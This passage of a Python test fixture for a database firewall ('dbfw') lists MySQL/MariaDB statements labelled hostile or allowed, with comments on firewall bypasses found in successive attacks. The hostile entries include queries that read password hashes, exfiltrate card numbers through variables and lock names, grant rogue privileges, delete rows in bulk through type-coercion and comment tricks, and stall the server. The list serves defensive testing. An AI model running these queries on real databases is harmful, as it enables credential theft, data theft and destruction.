    'DELETE FROM dbfw_my_canary WHERE v = 0',
    'UPDATE dbfw_my_customers SET card = NULL WHERE name = 0',
    'DELETE FROM dbfw_my_canary WHERE id = FLOOR(1 + RAND() * 3)',
    'DELETE FROM dbfw_my_canary WHERE 1=1 LIMIT 1000',
    "UPDATE dbfw_my_canary SET v = 'pwned' WHERE TRUE LIMIT 1000",
    'DELETE c, o FROM dbfw_my_canary c JOIN dbfw_my_orders o WHERE c.id = 1',
    'DELETE o FROM dbfw_my_canary c JOIN dbfw_my_orders o WHERE c.id = 1',
    'UPDATE dbfw_my_canary c, dbfw_my_orders o SET o.total = 0 WHERE c.id = 1',
    "REPLACE INTO dbfw_my_canary SELECT id, 'pwned' FROM dbfw_my_canary",
    'SELECT User, Host, Password, authentication_string FROM mysql.user',
    'SELECT * FROM mysql.global_priv',
    'HANDLER mysql.global_priv OPEN',
    "SHOW CREATE USER 'root'@'localhost'",
    "SHOW GRANTS FOR 'root'@'localhost'",
    "SHOW GRANTS",  # dbfw's own account: its grant line can carry its password hash
    "SHOW GRANTS FOR CURRENT_USER()",
    'SELECT ID, USER, HOST, DB, INFO FROM information_schema.PROCESSLIST',
    'SHOW FULL PROCESSLIST',
    'SHOW BINLOG EVENTS',
    'SHOW ENGINE INNODB STATUS',
    "SET @h = (SELECT Password FROM mysql.user WHERE User = 'root' LIMIT 1)",
    'SET @cards := (SELECT GROUP_CONCAT(card) FROM dbfw_my_customers)',
    'SELECT GROUP_CONCAT(card) INTO @cards FROM dbfw_my_customers',
    "INSERT INTO mysql.global_priv (Host, User, Priv) VALUES ('%', 'dbfw_evil', "
    "'{\"access\":18446744073709551615}')",
    "UPDATE mysql.global_priv SET Priv = '{}' WHERE User = 'root' AND Host = 'localhost'",
    "INSERT INTO mysql.plugin VALUES ('dbfw_evil', 'evil.so')",
    "DELETE FROM mysql.proc WHERE db = 'test' AND name = 'dbfw_p'",
    'SELECT SLEEP(3600)',
    'DO SLEEP(3600)',
    "SELECT BENCHMARK(1000000000, SHA2('x', 512))",
    "SELECT MASTER_GTID_WAIT('0-1-999999999', 3600)",
    "DO GET_LOCK('dbfw', 0)",
    "SELECT GET_LOCK(CONCAT('dbfw-', (SELECT card FROM dbfw_my_customers WHERE id = 1)), 0)",
    'DO RELEASE_ALL_LOCKS()',
    'SELECT SETVAL(dbfw_s, 1)',
    'SELECT dbfw_f()',
    'LOCK TABLES dbfw_my_canary WRITE',
    'LOCK TABLE dbfw_my_customers READ, dbfw_my_orders WRITE',
    'HANDLER dbfw_my_canary OPEN',
    "XA START 'dbfw'; UPDATE dbfw_my_orders SET total = 0 WHERE id = 1; XA END 'dbfw'; XA PREPARE 'dbfw'",
    'XA RECOVER',
    "XA ROLLBACK 'dbfw-other'",
    "XA COMMIT 'dbfw-other'",
    'DESC ANALYZE DELETE c FROM dbfw_my_canary c JOIN dbfw_my_orders o ON o.id = c.id',
]

# Writes by a numeric key: MySQL compares a string column with a number as numbers (name = 0 matches
# almost every row), so `WHERE id = 1001` restricts only on a column the upstream's catalog says is a number
# column. dbfw reads the catalog: these are allowed through the listener (and would need an approval without it).
NUMERIC_KEY_WRITES: list[str] = [
    'UPDATE dbfw_my_orders SET total = 10 WHERE id = 1001',
    'UPDATE dbfw_my_orders SET total = total + 1, created = NOW() WHERE id = 1002',
    'UPDATE dbfw_my_orders SET customer_id = 5 WHERE id IN (1001, 1003)',
    'UPDATE dbfw_my_orders SET total = 11 WHERE id = 1001 LIMIT 1',
    'DELETE FROM dbfw_my_orders WHERE id = 1005',
    'DELETE FROM dbfw_my_orders WHERE id IN (1006, 1007)',
    'DELETE FROM dbfw_my_orders WHERE id = 1008 LIMIT 1',
]

# Allowed on purpose, as on PostgreSQL: an unbounded INSERT ... SELECT adds rows (a write), and
# SELECT ... FOR UPDATE locks the rows it reads until the transaction ends.
ALLOWED_BUT_SUSPICIOUS: list[tuple[str, str]] = [
    ('INSERT INTO dbfw_my_orders SELECT id + 100000, customer_id, total, created FROM dbfw_my_orders',
     'an unbounded INSERT ... SELECT bulk copy is plain write'),
    ('INSERT INTO dbfw_my_canary SELECT id + 100, card FROM dbfw_my_customers',
     'copies card numbers into another table, where masking rules on customers.card no longer apply'),
    ('SELECT * FROM dbfw_my_customers FOR UPDATE',
     'locks every row of the table until the transaction ends'),
]

# A second cold attack's findings, refused since: a client character set given as a number, a variable or an
# expression (GBK hides a backslash inside a character); USE followed by more statements; a multi-table
# UPDATE's unqualified SET column; aliases that differ only in case; names of other dialects' functions and
# schema-qualified calls (stored functions); SHOW ... WHERE with a subquery; EXPLAIN FOR CONNECTION.
HOSTILE += [
    "SET character_set_client = 28",
    "SET character_set_client = CONCAT('g', 'bk')",
    "SET character_set_client = (SELECT 'gbk')",
    "SET NAMES utf8mb4, character_set_client = @c",
    "SET collation_connection = 28",
    "SET NAMES utf8mb4 COLLATE gbk_chinese_ci",
    "USE mysql; SELECT User, Password FROM user",
    "UPDATE dbfw_my_canary JOIN dbfw_my_orders SET total = 0 WHERE dbfw_my_canary.id = '1'",
    "DELETE v FROM dbfw_my_orders v JOIN dbfw_my_canary V ON 1 = 1 WHERE V.id = '1'",
    "UPDATE dbfw_my_canary V JOIN dbfw_my_orders v ON 1 = 1 SET v.total = 0 WHERE V.id = '1'",
    "SELECT DATE_TRUNC('day', NOW())",
    "SELECT ARRAY_AGG(1)",
    "SELECT UNNEST(1)",
    "SELECT test.upper('a')",
    "SHOW DATABASES WHERE EXTRACTVALUE(1, CONCAT(0x7e, (SELECT 1)))",
    "SHOW TABLES WHERE (SELECT COUNT(*) FROM information_schema.processlist) > 0",
    "EXPLAIN FORMAT=JSON FOR CONNECTION 1",
]

# A third cold attack: `--` followed by a non-ASCII space (MariaDB reads U+00A0 as part of a name, so
# neither a comment nor a space), and values kept in @variables.
HOSTILE += [
    "UPDATE dbfw_my_canary \xa0 SET v = 'm' WHERE id = 1 --\xa0.id OR 1=1\n",
    "SELECT 1 --\xa0.id FROM dbfw_my_canary \xa0; DROP TABLE dbfw_my_canary\n",
    "SELECT @a := card FROM dbfw_my_customers WHERE id = 1",
    "SELECT id FROM dbfw_my_customers WHERE id = 2 AND (@b := email) IS NOT NULL",
]

# A fourth cold attack: functions MariaDB calls without parentheses read by sqlglot as columns (a write's
# "restriction" true for every row), and dirty reads of other sessions' uncommitted rows.
HOSTILE += [
    "UPDATE dbfw_my_canary SET v = 'pwned' WHERE UTC_DATE = '2026-12-02'",
    "DELETE FROM dbfw_my_canary WHERE CURRENT_ROLE = 'x'",
    "DELETE FROM dbfw_my_canary WHERE UTC_TIMESTAMP = '2026-12-02 00:00:00'",
    "SET SESSION TRANSACTION ISOLATION LEVEL READ UNCOMMITTED",
    "SET tx_isolation = 'READ-UNCOMMITTED'",
]

# A fifth cold attack: SET's right-hand side was not read (a stored function's body ran through SET @x =
# f(); a setting set from a subquery carried masked values back through @@name).
HOSTILE += [
    "SET @x = dbfw_no_such_function()",
    "SET @x := 1, @y = test.dbfw_no_such_function()",
    "SET sql_select_limit = (SELECT COUNT(*) FROM dbfw_my_customers)",
    "SET max_join_size = CAST(CONV(HEX((SELECT card FROM dbfw_my_customers WHERE id = 1)), 16, 10) AS UNSIGNED)",
    "SET SESSION sql_select_limit = dbfw_no_such_function()",
]

# A sixth cold attack: a string column joined to a constant-row source holding a number (MySQL compares
# them as numbers, so every string not starting with a digit equals 0).
HOSTILE += [
    "UPDATE IGNORE dbfw_my_canary n, (SELECT 0 AS x LIMIT 1) b SET n.v = 'pwn' WHERE n.v = b.x",
    "DELETE IGNORE n FROM dbfw_my_canary n, (SELECT 0 AS x) b WHERE n.v = b.x",
]

# A seventh: NULL-safe equality with NULL picks every row where the column is NULL.
HOSTILE += [
    "DELETE FROM dbfw_my_customers WHERE note <=> NULL",
    "UPDATE dbfw_my_customers SET name = 'x' WHERE note <=> (SELECT NULL)",
]

# An eighth: a LIMIT proved bounded once for its shape (the everyday list runs the LIMIT 1 form first), an
# isolation level by number, LAST_INSERT_ID(expr) as storage, a procedure body whose end is ambiguous, and a
# second statement inside a versioned comment.
EVERYDAY += [
    "DELETE c FROM dbfw_my_canary c JOIN (SELECT id FROM dbfw_my_orders WHERE total > 100000 LIMIT 1) q1 "
    "WHERE c.id = q1.id",
]
HOSTILE += [
    "DELETE c FROM dbfw_my_canary c JOIN (SELECT id FROM dbfw_my_orders WHERE total > 0 LIMIT 100000000) q1 "
    "WHERE c.id = q1.id",
    "SET tx_isolation = 0",
    "SELECT LAST_INSERT_ID(id) FROM dbfw_my_customers WHERE id = 2",
    "CREATE PROCEDURE dbfw_my_p() BEGIN SELECT 1 AS begin; END; DROP TABLE dbfw_my_canary",
    "SELECT 1 /*!50000 ; DROP TABLE dbfw_my_canary */",
]
